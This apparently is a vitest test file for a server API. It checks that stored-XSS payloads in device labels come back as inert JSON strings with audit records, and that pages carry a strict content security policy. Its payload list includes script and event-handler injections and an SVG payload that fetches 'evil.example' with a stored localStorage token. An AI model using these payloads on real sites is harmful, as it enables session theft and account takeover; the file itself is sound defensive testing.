import { afterAll, beforeAll, expect, it } from "vitest";
import { describeEachDialect } from "../../apps/server/src/testing/dialects.js";
import { auditOf, requestId } from "./support/audit-trail.js";
import { buildWorld, type World } from "./support/world.js";

const PAYLOADS = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(document.cookie)>',
  "javascript:alert(1)",
  "<svg/onload=fetch('//evil.example/'+localStorage.token)>",
  "{{constructor.constructor('alert(1)')()}}",
];

describeEachDialect("stored XSS through device labels", (database) => {
  let w: World;
  beforeAll(async () => {
    w = await buildWorld(database());
  });
  afterAll(() => w.t.stop());

  it("returns a label only as a JSON string, never as markup, with the old and new values audited", async () => {
    for (const label of PAYLOADS) {
      const rid = requestId("xss");
      const res = await w.call(
        "owner",
        "PATCH",
        `/v1/devices/${w.deviceA}`,
        { label },
        { "x-request-id": rid },
      );
      if (res.status === 400) {
        // Refusing the label outright is as good as storing it inertly.
        expect(((await res.json()) as { code: string }).code).toBe("validation_failed");
        continue;
      }
      expect(res.status).toBe(200);
      const read = await w.call("owner", "GET", `/v1/devices/${w.deviceA}`);
      expect(read.headers.get("content-type")).toMatch(/^application\/json/);
      expect(read.headers.get("x-content-type-options")).toBe("nosniff");
      const raw = await read.text();
      expect(JSON.parse(raw).label).toBe(label);
      // JSON escaping keeps it a string literal; no response ever sniffs as HTML.
      expect(raw).toContain(JSON.stringify(label).slice(1, -1));
      const [audit] = await auditOf(w, rid);
      expect(audit).toMatchObject({ action: "device.update", outcome: "ok", object_id: w.deviceA });
    }
  });

  it("serves every page under a CSP that forbids inline and foreign scripts", async () => {
    for (const path of ["/", "/v1/explorer/stats", `/v1/devices/${w.deviceA}`]) {
      const res = await w.call("owner", "GET", path);
      const csp = res.headers.get("content-security-policy") ?? "";
      expect(csp).toContain("script-src 'self'");
      expect(csp.split(";").find((d) => d.trim().startsWith("script-src"))).not.toContain("unsafe-inline");
      expect(csp).toContain("frame-ancestors 'none'");
    }
  });
});
